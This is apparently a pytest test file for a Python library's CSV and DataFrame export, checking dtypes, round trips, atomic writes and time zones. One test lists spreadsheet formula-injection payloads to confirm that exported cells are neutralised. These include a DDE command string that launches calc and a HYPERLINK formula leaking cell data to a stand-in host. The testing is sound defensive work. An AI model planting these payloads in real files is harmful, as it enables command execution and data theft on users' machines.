"""Tables as DataFrames and CSV files: columns, dtypes, round trips, and no spreadsheet formulas."""

import csv
import math
import threading
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from support.mill import DONE

import nbhelper as nbh
from nbhelper.types import Mark, MarkWord, Snapshot, State

NOON = datetime(2026, 11, 22, 12, 0, tzinfo=UTC)
QUICK = settings(max_examples=30, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))


def history(ident, *, label=None, at=NOON, **seen):
    made = nbh.History(nbh.Task("kie", ident, label=label), uid=ident[:20])
    return made.add(Snapshot(state=State.SUCCEEDED, word="done", **seen), at)


def round_trip(frame, path):
    nbh.to_csv(frame, path)
    return nbh.read_csv(path)


@pytest.mark.parametrize("table", ["tasks", "events", "outputs"])
def test_h14_empty_store(mill, table):
    """The tables of an empty store have all columns with the dtypes of full tables."""
    empty = getattr(nbh, table)()
    nbh.watch(mill.job(DONE), display=False)
    full = getattr(nbh, table)()

    assert len(empty) == 0
    assert list(empty.columns) == list(full.columns)[: len(empty.columns)]
    assert [str(d) for d in empty.dtypes] == [str(d) for d in full.dtypes][: len(empty.columns)]
    assert not [c for c in full.columns[len(empty.columns) :] if not c.startswith("param_")]


IDS = [
    "00123",
    "1e5",
    "NA",
    "null",
    "nan",
    "None",
    "12345678901234567890123",
    "TRUE",
    "0x1F",
    "1_000",
    "2026-11-22",
    "inf",
    "-",
]


@pytest.mark.parametrize("ident", IDS)
def test_h15_id_that_looks_like_something_else(tmp_path, ident):
    """An id or label that looks like a number, date or null is text, also after to_csv() and read_csv()."""
    frame = nbh.to_frame([history(ident, label=ident)])

    loaded = round_trip(frame, tmp_path / "t.csv")

    assert (loaded["task_id"][0], loaded["label"][0]) == (ident, ident)
    pd.testing.assert_frame_equal(loaded, frame, check_column_type=False)


@QUICK
@given(st.lists(st.text(max_size=12).filter(lambda t: t.strip()), min_size=1, max_size=4))
def test_h15_any_label(tmp_path_factory, labels):
    """Any label is unchanged after to_csv() and read_csv()."""
    frame = nbh.to_frame([history(f"t{n}", label=label) for n, label in enumerate(labels)])

    loaded = round_trip(frame, tmp_path_factory.mktemp("csv") / "t.csv")

    assert loaded["label"].tolist() == frame["label"].tolist()


@QUICK
@given(st.text(st.sampled_from("\r\n,;\"' a"), min_size=1, max_size=8).filter(str.strip))
def test_h16_bare_returns(tmp_path_factory, label):
    """A bare carriage return in a text splits no row, for read_csv() and for the csv module."""
    path = tmp_path_factory.mktemp("csv") / "t.csv"
    frame = nbh.to_frame([history("a", label=label), history("b", label="x")])

    loaded = round_trip(frame, path)

    with path.open(newline="", encoding="utf-8") as file:
        rows = [row for row in csv.reader(file) if row]
    assert loaded["label"].tolist() == frame["label"].tolist()
    assert len(rows) == 3


FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\x00=1+1",
    '=HYPERLINK("http://evil.example?x="&A1)', "\uff1d1+1", "\uff0b1", "\uff201", "'=1+1", "%0A=1", "=IMPORTXML(1)",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_h17_formula(tmp_path, text):
    """No CSV cell begins like a spreadsheet formula, and read_csv() gives the original text."""
    made = nbh.History(nbh.Task("kie", "t", label=text, params={"prompt": text, text: 1}), uid="t")
    frame = nbh.to_frame([made.add(Mark(word=MarkWord.LOST, note=text), NOON)])

    loaded = round_trip(frame, tmp_path / "t.csv")

    with (tmp_path / "t.csv").open(newline="", encoding="utf-8") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert not [
        c
        for c in cells
        if c.lstrip("\t\r\n \x00")[:1] in set("=+@\uff1d\uff0b\uff0d\uff20") or c[:1] in set("\t\r\n\x00")
    ]
    assert not [c for c in cells if c[:1] == "-" and not c.lstrip("-").replace(".", "").isdigit()]
    assert loaded["label"].tolist() == frame["label"].tolist()
    assert loaded["param_prompt"].tolist() == frame["param_prompt"].tolist()


def test_h18_target_exists_and_is_open(tmp_path):
    """to_csv() replaces an existing file atomically: an open reader keeps the old one, and none reads half a file."""
    path = tmp_path / "t.csv"
    frame = nbh.to_frame([history(f"t{n}") for n in range(300)])
    nbh.to_csv(frame, path)
    whole = path.read_bytes()
    seen, over = set(), threading.Event()

    def read():
        while not over.is_set():
            seen.add(path.read_bytes() == whole)

    thread = threading.Thread(target=read)
    with path.open("rb") as reader:
        thread.start()
        for _ in range(20):
            nbh.to_csv(frame, path)
        over.set()
        thread.join()
        assert reader.read() == whole
    assert seen == {True}
    assert sorted(p.name for p in tmp_path.iterdir()) == ["t.csv"]


def test_h18_target_that_cannot_be_written(tmp_path):
    """A CSV target that is a folder, in a missing folder or too long raises a one-line error; no file is changed."""
    path = tmp_path / "t.csv"
    frame = nbh.to_frame([history("t")])
    nbh.to_csv(frame, path)
    before = path.read_bytes()
    (tmp_path / "folder.csv").mkdir()

    for target in (
        tmp_path / "folder.csv",
        tmp_path / "none" / "t.csv",
        tmp_path / ("x" * 300 + ".csv"),
        path / "below.csv",
        Path("/proc/t.csv"),
    ):
        with pytest.raises((nbh.BadInput, nbh.StoreError)) as caught:
            nbh.to_csv(frame, target)
        assert str(caught.value).isprintable()
    assert path.read_bytes() == before


ZONES = [UTC, timezone(timedelta(hours=8)), timezone(timedelta(hours=-11, minutes=-30)), None]


def test_h19_mixed_time_zones(tmp_path):
    """Times of several zones and None are one column of datetime64[us, UTC], also after read_csv()."""
    made = [
        history(f"t{n}", created_at=None if zone is None else datetime(2026, 11, 22, 20, 0, tzinfo=zone))
        for n, zone in enumerate(ZONES)
    ]

    frame = nbh.to_frame(made)
    loaded = round_trip(frame, tmp_path / "t.csv")

    assert str(frame["created_at"].dtype) == str(loaded["created_at"].dtype) == "datetime64[us, UTC]"
    assert [str(t)[:16] for t in frame["created_at"]] == [
        "2026-11-22 20:00",
        "2026-11-22 12:00",
        "2026-11-23 07:30",
        "NaT",
    ]
    pd.testing.assert_frame_equal(loaded, frame, check_column_type=False)


def test_h20_tables_are_copies(mill):
    """Changes to a table do not change the store or the next table."""
    watch = nbh.watch([mill.job({**DONE, "credits": 2}), mill.job()], display=False)
    before = nbh.tasks()

    for frame in (nbh.tasks(), watch.to_frame()):
        frame.loc[:, "outcome"] = None
        frame["credits"] = math.nan
        frame.iloc[0, 1] = "another"
        del frame["files"]

    pd.testing.assert_frame_equal(nbh.tasks(), before)
    pd.testing.assert_frame_equal(watch.to_frame(), before)
